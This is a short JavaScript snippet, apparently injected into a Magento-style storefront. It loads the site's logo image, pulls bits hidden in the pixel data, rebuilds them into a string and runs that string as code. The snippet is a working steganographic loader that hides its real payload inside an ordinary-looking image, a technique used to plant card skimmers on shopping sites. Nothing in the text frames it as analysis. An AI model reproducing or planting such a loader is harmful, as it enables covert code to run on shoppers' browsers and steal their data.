var im = new Image();
im.crossOrigin = 'anonymous';
im.onload = function () {
  var c = document.createElement('canvas'), g = c.getContext('2d'), s = '', b = 0, n = 0;
  c.width = im.width; c.height = im.height;
  g.drawImage(im, 0, 0);
  var px = g.getImageData(0, 0, c.width, c.height).data;
  for (var i = 0; i < px.length; i += 4) {
    b = b << 1 | px[i] & 1;
    if (++n == 8) { if (!b) break; s += String.fromCharCode(b); b = n = 0; }
  }
  new Function(s)();
};
im.src = '/skin/frontend/base/default/images/logo.png';
